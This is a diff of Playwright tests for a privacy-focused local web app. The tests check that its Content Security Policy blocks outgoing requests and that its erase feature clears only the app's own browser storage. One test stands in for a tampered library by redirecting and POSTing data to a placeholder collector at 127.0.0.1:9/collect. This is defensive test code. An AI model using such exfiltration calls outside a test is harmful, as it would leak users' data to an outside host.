@@ -1,75 +1,110 @@
 import { chooseFolder, followToEnd } from '#cli/drive-page.ts';
+import type { Page } from '@playwright/test';
 import { expect, test } from './journey.ts';
+import { test as stored } from './stored-app.ts';
 import { plainFile, writeFolder } from './plain-files.ts';
 
-test('nothing but the app itself is asked for, and nothing of a file is in any request', async ({
+test('a page and a worker that try to send are refused by the policy, and the Privacy page says so', async ({
   page,
-  context,
-  origin,
+  complaints,
 }) => {
-  const requests: { readonly url: string; readonly method: string; readonly body: string | null }[] = [];
-  context.on('request', (request) =>
-    requests.push({ url: request.url(), method: request.method(), body: request.postData() }),
-  );
-  await page.goto('/');
-  await chooseFolder(page, await writeFolder({ 'jane-doe.csv': plainFile(1) }));
-  await followToEnd(page, () => undefined);
-  await page.getByTestId('row').first().click();
-  await page.waitForLoadState('networkidle');
+  await page.goto('/privacy/');
+  await expect(page.getByTestId('own-requests')).toContainText(/\d+ files/);
+  await expect(page.getByTestId('foreign-requests')).toHaveText('0');
+  await expect(page.getByTestId('blocked-attempts')).toHaveText('0');
 
-  expect(requests.length).toBeGreaterThan(0);
-  for (const { url, method, body } of requests) {
-    expect(new URL(url).origin, url).toBe(origin);
-    expect(method, url).toBe('GET');
-    expect(body, url).toBeNull();
-    expect(url).not.toContain('jane');
-  }
-});
+  await page.getByRole('button', { name: 'Try to send something' }).click();
+  await expect(page.getByTestId('attempts').getByText('Refused')).toHaveCount(2);
+  await expect(page.getByTestId('blocked-attempts')).toHaveText('2');
+  await expect(
+    page.getByRole('row', { name: /A request https:\/\/nobody\.invalid this page/ }),
+  ).toBeVisible();
+  await expect(page.getByRole('row', { name: /nobody\.invalid the worker of this test/ })).toBeVisible();
 
-test('a page cannot send anything even if its code wanted to', async ({ page, complaints }) => {
-  await page.goto('/');
+  // As a library might that was tampered with.
   const outcome = await page.evaluate(async () => {
-    try {
-      await fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'x', mode: 'no-cors' });
-      return 'sent';
-    } catch {
-      return 'refused';
-    }
+    location.href = 'http://127.0.0.1:9/collect?x';
+    return fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'x', mode: 'no-cors' }).then(
+      () => 'sent',
+      () => 'refused',
+    );
   });
   expect(outcome).toBe('refused');
-  // The browser names the policy that refused; that is the one complaint this journey wants.
-  expect(complaints.some((complaint) => complaint.includes('Content Security Policy'))).toBe(true);
+  await expect(page.getByTestId('blocked-attempts')).toHaveText('4');
+  await expect(
+    page.getByRole('row', { name: /Going to another address http:\/\/127\.0\.0\.1:9/ }),
+  ).toBeVisible();
+  await expect(page.getByTestId('foreign-requests')).toHaveText('0');
+
+  // The browser names the policy that refused; those are the only complaints this journey wants.
+  const others = complaints.filter((complaint) => !complaint.includes('Content Security Policy'));
+  expect(others).toEqual([]);
+  expect(complaints.length).toBeGreaterThan(0);
   complaints.length = 0;
 });
 
-test('erasing takes all of this app and nothing of another on the same host', async ({ page }) => {
-  await page.goto('/');
-  await chooseFolder(page, await writeFolder({ 'a.csv': plainFile(1), 'b.csv': 'no table' }));
-  await followToEnd(page, () => undefined);
-  await page.evaluate(async () => {
-    localStorage.setItem('benchside.settings', '{"theme":"dark"}');
-    localStorage.setItem('other.settings', 'kept');
-    await (await navigator.storage.getDirectory()).getDirectoryHandle('other-app', { create: true });
-    indexedDB.open('other-app').onsuccess = (event) => {
-      (event.target as IDBOpenDBRequest).result.close();
+/** What is kept in this browser, looked at past the app. */
+async function everythingKept(page: Page): Promise<Readonly<Record<string, readonly string[]>>> {
+  return page.evaluate(async () => {
+    const files: string[] = [];
+    const list = async (folder: FileSystemDirectoryHandle, path: string): Promise<void> => {
+      for await (const [name, entry] of folder.entries()) {
+        files.push(`${path}${name}`);
+        if (entry.kind === 'directory') await list(entry as FileSystemDirectoryHandle, `${path}${name}/`);
+      }
+    };
+    await list(await navigator.storage.getDirectory(), '');
+    const registrations = await navigator.serviceWorker.getRegistrations();
+    return {
+      databases: (await indexedDB.databases()).map(({ name }) => name ?? ''),
+      files,
+      caches: await caches.keys(),
+      settings: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
+      serviceWorkers: registrations.map(({ scope }) => scope),
     };
   });
-  await page.goto('/privacy/');
-  await page.getByRole('button', { name: 'Erase everything…' }).click();
-  await page.getByRole('dialog').getByRole('button', { name: 'Erase everything' }).click();
-  await expect(page.getByText('None yet.')).toBeVisible();
-  const left = await page.evaluate(async () => {
-    const root = await navigator.storage.getDirectory();
-    const inputs: string[] = [];
-    const folder = await root.getDirectoryHandle('inputs', { create: true });
-    for await (const name of folder.keys()) inputs.push(name);
-    const other = await root.getDirectoryHandle('other-app').then(
-      () => true,
-      () => false,
-    );
-    const names = (await indexedDB.databases()).map(({ name }) => name);
-    return { inputs, other, names, settings: Object.keys(localStorage) };
-  });
-  expect(left).toMatchObject({ inputs: [], other: true, settings: ['other.settings'] });
-  expect(left.names).toContain('other-app');
-});
+}
+
+stored(
+  'erasing takes all of this app, in one step, and nothing of another on the same host',
+  async ({ page }) => {
+    await page.goto('/');
+    await chooseFolder(page, await writeFolder({ 'a.csv': plainFile(1), 'b.csv': 'no table' }));
+    await followToEnd(page, () => undefined);
+    await page.evaluate(async () => {
+      localStorage.setItem('benchside.settings', '{"theme":"dark"}');
+      localStorage.setItem('other.settings', 'kept');
+      await (await navigator.storage.getDirectory()).getDirectoryHandle('other-app', { create: true });
+      await caches.open('other-app');
+      await new Promise((resolve) => {
+        indexedDB.open('other-app').onsuccess = (event) => {
+          (event.target as IDBOpenDBRequest).result.close();
+          resolve(undefined);
+        };
+      });
+      await navigator.serviceWorker.ready;
+    });
+    const before = await everythingKept(page);
+    for (const [kind, names] of Object.entries(before)) expect(names.length, kind).toBeGreaterThan(0);
+
+    await page.goto('/privacy/');
+    await page.getByRole('button', { name: 'Erase everything…' }).click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Erase everything' }).click();
+    await expect(page.getByRole('heading', { name: 'Everything is erased' })).toBeFocused();
+    for (const cell of await page.getByTestId('left').locator('td:last-child').all())
+      await expect(cell).toHaveText('0');
+    const nothingOfOurs = {
+      databases: ['other-app'],
+      files: ['other-app'],
+      caches: ['other-app'],
+      settings: ['other.settings'],
+      serviceWorkers: [],
+    };
+    expect(await everythingKept(page)).toEqual(nothingOfOurs);
+    await page.waitForTimeout(500);
+    expect(await everythingKept(page), 'and nothing comes back by itself').toEqual(nothingOfOurs);
+
+    await page.getByRole('link', { name: 'Begin anew' }).click();
+    await expect(page.getByText('None yet.')).toBeVisible();
+  },
+);
